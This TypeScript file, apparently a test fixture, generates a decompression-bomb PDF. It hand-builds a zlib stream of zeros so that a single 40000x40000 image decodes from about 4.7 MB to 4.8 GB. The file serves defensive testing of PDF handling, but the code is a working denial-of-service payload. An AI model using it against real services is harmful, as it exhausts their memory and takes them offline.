import { constants, deflateRawSync } from 'node:zlib';
import { concatTransformationMatrix, drawObject, PDFDocument, popGraphicsState, pushGraphicsState } from 'pdf-lib';

/**
 * A zlib stream of `total` zero bytes, made without deflating them all: one flushed raw-deflate
 * block of `chunk` zeros repeated (each ends on a byte boundary and refers back only to zeros),
 * a final empty block and the Adler-32 of the whole (a = 1, b = total mod 65521).
 */
export function zlibZeros(total: number, chunk: number): Buffer {
  if (total % chunk) throw new Error('total must be a multiple of chunk');
  const block = deflateRawSync(Buffer.alloc(chunk), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((total % 65521) << 16) | 1) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array<Buffer>(total / chunk).fill(block), Buffer.from([0x03, 0x00]), adler]);
}

/**
 * Issue 26 §3's decompression bomb: a letter page drawing one `side` x `side` DeviceRGB image
 * whose FlateDecode data is all zeros (40000 x 40000: 4.8 GB decoded from 4.7 MB).
 */
export async function bombPdf(side = 40_000): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([612, 792]);
  const raw = side * side * 3;
  const chunk = side * 3 * 400;
  const image = doc.context.register(
    doc.context.stream(zlibZeros(raw - (raw % chunk), chunk), {
      Type: 'XObject', Subtype: 'Image', Width: side, Height: side - ((raw % chunk) / (side * 3)), ColorSpace: 'DeviceRGB', BitsPerComponent: 8, Filter: 'FlateDecode',
    }),
  );
  const name = page.node.newXObject('Bomb', image);
  page.pushOperators(pushGraphicsState(), concatTransformationMatrix(612, 0, 0, 792, 0, 0), drawObject(name), popGraphicsState());
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}
